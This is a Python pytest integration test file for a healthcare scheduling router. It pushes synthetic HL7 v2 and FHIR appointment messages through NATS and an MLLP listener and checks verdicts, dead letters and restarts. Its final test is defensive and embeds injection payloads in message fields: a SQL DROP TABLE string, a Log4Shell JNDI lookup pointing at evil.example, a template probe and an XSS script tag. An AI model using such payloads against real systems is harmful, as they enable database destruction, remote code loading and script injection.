"""Raw HL7 v2 and FHIR through the router on the real nats-server: the ingest stage, verdicts,
dead letters with raw bytes, restart, and the MLLP listener over real TCP."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import anyio
import msgspec
import orjson
import pytest
from harness import client, load_refdata, make_config, running, stream_messages, wait_for

from caresync.actors.appointment import AppointmentState
from caresync.config import Config
from caresync.router.mllp import MllpServer
from caresync.router.raw_client import RawSubmitter
from caresync.router.service import open_store, subjects_for

pytestmark = pytest.mark.anyio

SAMPLES = Path(__file__).resolve().parents[2] / "shared" / "samples"


def siu(
    event: str,
    control_id: str,
    filler: str = "A100",
    *,
    msh7: str = "20261124081500",
    start: str = "20261202073000",
    extra: str = "",
) -> bytes:
    """A small SIU message at the demo main OR (total knee), CR separated."""
    segments = [
        f"MSH|^~\\&|SCHED|GENHOSP|CARESYNC|GENHOSP|{msh7}-0500||SIU^{event}^SIU_S12|"
        f"{control_id}|P|2.5.1",
        f"SCH||{filler}^GENHOSP|||||||120|min|^^120^{start}-0500",
        "PID|1||MRN-1001^^^GENHOSP^MR||DOE^JANE",
        "PV1|1|O|MAIN-OR^OR-3^^MAIN-OR||||||||||||||||V-5501",
        "RGS|1",
        f"AIS|1|A|27447^Total knee^CPT|{start}-0500|||120|min",
        "AIL|1|A|MAIN-OR^OR-3^^MAIN-OR",
        "AIP|1|A|DR-PATEL^Patel^Raj",
    ]
    if extra:
        segments.append(extra)
    return ("\r".join(segments) + "\r").encode()


async def appointment(cfg: Config, data_dir: Path, entity: str) -> AppointmentState | None:
    async with await open_store(cfg, data_dir) as store:
        row = await store.entity("appointment", entity)
    return None if row is None else msgspec.msgpack.decode(row.state, type=AppointmentState)


async def test_hl7_and_fhir_get_the_same_verdicts_as_canonical_commands(
    nats_url: str, unique_prefix: str, tmp_path: Path
) -> None:
    cfg = make_config(unique_prefix)
    async with running(cfg, nats_url, tmp_path) as service, client(nats_url) as nc:
        await load_refdata(nc.jetstream(), service)
        raw = RawSubmitter(nc, subjects_for(cfg), wait_s=20)

        booked = await raw.submit("hl7", siu("S12", "MSG-1"))
        assert (booked.verdict, booked.kind, booked.entity) == (
            "accepted",
            "appointment.book",
            "GENHOSP:A100",
        )
        # The same content under a new control id is the same booking, not a second one.
        resent = await raw.submit("hl7", siu("S12", "MSG-1-RESENT"))
        assert resent.verdict == "duplicate", resent
        # A business refusal comes back from the actor, naming the entity.
        unknown = await raw.submit("hl7", siu("S15", "MSG-2", filler="NOPE"))
        assert unknown.verdict == "rejected"
        assert "GENHOSP:NOPE" in unknown.reason
        # A message the decoder refuses names its segment and field, and keeps its bytes.
        no_id = siu("S12", "MSG-3", filler="")
        refused = await raw.submit("hl7", no_id)
        assert refused.verdict == "rejected", refused
        assert "SCH-2" in refused.reason
        assert refused.code == "missing_id"
        moved = await raw.submit(
            "hl7", siu("S13", "MSG-4", msh7="20261124091500", start="20261203080000")
        )
        assert moved.verdict == "accepted"
        assert moved.kind == "appointment.reschedule"

        state = await appointment(cfg, tmp_path, "GENHOSP:A100")
        assert state is not None
        assert state.status == "booked"
        assert state.details is not None
        assert state.details.start == datetime(2026, 12, 3, 13, 0, tzinfo=UTC)  # 08:00 -05:00
        assert state.local_date == "2026-12-03"
        assert state.details.facility_id == "MAIN-OR"
        assert [p.code for p in state.details.procedures] == ["27447"]

        fhir = orjson.dumps(
            {
                "resourceType": "Appointment",
                "id": "fx1",
                "status": "booked",
                "serviceType": [{"coding": [{"code": "27447"}]}],
                "start": "2026-12-04T07:30:00-05:00",
                "end": "2026-12-04T09:30:00-05:00",
                "participant": [
                    {"actor": {"reference": "Location/MAIN-OR"}, "status": "accepted"},
                    {"actor": {"reference": "Practitioner/DR-PATEL"}, "status": "accepted"},
                ],
            }
        )
        synced = await raw.submit("fhir", fhir)
        assert (synced.verdict, synced.kind, synced.entity) == (
            "accepted",
            "appointment.sync",
            "Appointment/fx1",
        )
        bad_json = await raw.submit("fhir", b'{"resourceType": "Appointment", "status": ')
        assert bad_json.verdict == "rejected"
        assert bad_json.code == "malformed"

        subjects = subjects_for(cfg)
        letters = await stream_messages(
            nc.jetstream(), subjects.dead_letter_stream, f"{subjects.prefix}.dlq.>"
        )
        by_code = {m.headers["Caresync-Reason-Code"]: m for m in letters if m.headers}
        assert by_code["missing_id"].data == no_id  # raw bytes, untouched
        assert "SCH-2" in by_code["missing_id"].headers["Caresync-Reason"]
        assert by_code["malformed"].data == b'{"resourceType": "Appointment", "status": '
        assert service.ingest is not None
        assert service.ingest.stats.rejected == 2


async def test_raw_messages_published_while_the_router_is_down_are_decoded_on_start(
    nats_url: str, unique_prefix: str, tmp_path: Path
) -> None:
    cfg = make_config(unique_prefix)
    async with running(cfg, nats_url, tmp_path) as service, client(nats_url) as nc:
        await load_refdata(nc.jetstream(), service)
    async with client(nats_url) as nc:
        idle = RawSubmitter(nc, subjects_for(cfg), wait_s=0)
        for i in range(20):
            stored = await idle.submit("hl7", siu("S12", f"M{i}", filler=f"B{i}"))
            assert stored.verdict == "pending"
            assert stored.seq > 0
    async with running(cfg, nats_url, tmp_path), client(nats_url) as nc:
        raw = RawSubmitter(nc, subjects_for(cfg), wait_s=20)
        again = await raw.submit("hl7", siu("S12", "M0-again", filler="B0"))
        assert again.verdict == "duplicate"

        async def all_booked() -> bool:
            states = [await appointment(cfg, tmp_path, f"GENHOSP:B{i}") for i in range(20)]
            return all(s is not None and s.status == "booked" for s in states)

        await wait_for(all_booked, what="20 bookings decoded after the restart")


def ack_codes(data: bytes) -> list[tuple[str, str]]:
    """(MSA-1, MSA-2) of every MLLP-framed ACK in ``data``."""
    out = []
    for frame in data.split(b"\x1c\r"):
        frame = frame.strip(b"\x0b")
        for segment in frame.split(b"\r"):
            if segment.startswith(b"MSA|"):
                fields = segment.decode().split("|")
                out.append((fields[1], fields[2] if len(fields) > 2 else ""))
    return out


async def test_mllp_listener_answers_each_message_with_its_ack_over_tcp(
    nats_url: str, unique_prefix: str, tmp_path: Path
) -> None:
    cfg = make_config(unique_prefix)
    async with running(cfg, nats_url, tmp_path) as service, client(nats_url) as nc:
        await load_refdata(nc.jetstream(), service)
        server = MllpServer(RawSubmitter(nc, subjects_for(cfg), wait_s=20))
        async with anyio.create_task_group() as tg:
            port = await tg.start(server.serve, "127.0.0.1", 0)
            book = siu("S12", "T-1", filler="M1")
            cancel_unknown = siu("S15", "T-2", filler="M404")
            garbage = b"MSH|^~\\&|X|Y\rthis is not hl7\r"
            cancel = siu("S15", "T-3", filler="M1", msh7="20261124101500")
            broken = b"\x0b" + siu("S12", "T-4", filler="M2")  # no frame end ...
            after_broken = siu("S12", "T-5", filler="M3")
            stream = (
                b"".join(b"\x0b" + m + b"\x1c\r" for m in (book, cancel_unknown, garbage, cancel))
                + broken
                + b"\x0b"  # ... a new frame starts before the old one ended
                + after_broken
                + b"\x1c\r"
            )
            async with await anyio.connect_tcp("127.0.0.1", port) as conn:
                await conn.send(stream[:37])  # split across TCP segments on purpose
                await conn.send(stream[37:])
                received = b""
                with anyio.fail_after(30):
                    while len(ack_codes(received)) < 6:
                        received += await conn.receive()
            tg.cancel_scope.cancel()
        codes = ack_codes(received)
        assert codes == [
            ("AA", "T-1"),
            ("AE", "T-2"),
            ("AR", ""),
            ("AA", "T-3"),
            ("AR", "T-4"),
            ("AA", "T-5"),
        ], received
        assert b"M404" in received  # the reason travels in MSA-3 / ERR
        cancelled = await appointment(cfg, tmp_path, "GENHOSP:M1")
        assert cancelled is not None
        assert cancelled.status == "cancelled"
        assert await appointment(cfg, tmp_path, "GENHOSP:M2") is None  # broken: not booked
        assert await appointment(cfg, tmp_path, "GENHOSP:M3") is not None


@pytest.mark.skipif(not SAMPLES.is_dir(), reason="../shared/samples not beside the repo")
async def test_the_two_frame_sample_stream_is_two_messages_for_one_appointment(
    nats_url: str, unique_prefix: str, tmp_path: Path
) -> None:
    from caresync.codecs.hl7v2 import split_messages

    cfg = make_config(unique_prefix)
    frames = split_messages(
        (SAMPLES / "hl7v2" / "derived__mllp_stream_ri_s12_s15.hl7").read_bytes()
    )
    assert len(frames) == 2
    async with running(cfg, nats_url, tmp_path), client(nats_url) as nc:
        raw = RawSubmitter(nc, subjects_for(cfg), wait_s=20)
        verdicts = [await raw.submit("hl7", f.data) for f in frames]
    kinds = [v.kind for v in verdicts]
    assert kinds == ["appointment.book", "appointment.cancel"], verdicts
    assert verdicts[0].entity == verdicts[1].entity != ""


async def test_hostile_strings_inside_valid_messages_are_stored_verbatim(
    nats_url: str, unique_prefix: str, tmp_path: Path
) -> None:
    room = "OR-3'); DROP TABLE entities;--"
    reason = "${jndi:ldap://evil.example/a} {{7*7}} <script>alert(1)</script>"
    cfg = make_config(unique_prefix)
    booking = siu("S12", "H-1", filler="H1").replace(
        b"MAIN-OR^OR-3^^MAIN-OR", f"MAIN-OR^{room}^^MAIN-OR".encode()
    )
    cancel = siu("S15", "H-2", filler="H1", msh7="20261124101500").replace(
        b"SCH||H1^GENHOSP||||", f"SCH||H1^GENHOSP||||^{reason}".encode()
    )
    async with running(cfg, nats_url, tmp_path) as service, client(nats_url) as nc:
        await load_refdata(nc.jetstream(), service)
        raw = RawSubmitter(nc, subjects_for(cfg), wait_s=20)
        assert (await raw.submit("hl7", booking)).verdict == "accepted"
        booked = await appointment(cfg, tmp_path, "GENHOSP:H1")
        assert booked is not None
        assert booked.details is not None
        assert booked.details.room == room
        assert (await raw.submit("hl7", cancel)).verdict == "accepted"
    cancelled = await appointment(cfg, tmp_path, "GENHOSP:H1")
    assert cancelled is not None
    assert cancelled.status == "cancelled"
    assert cancelled.close_reason == reason
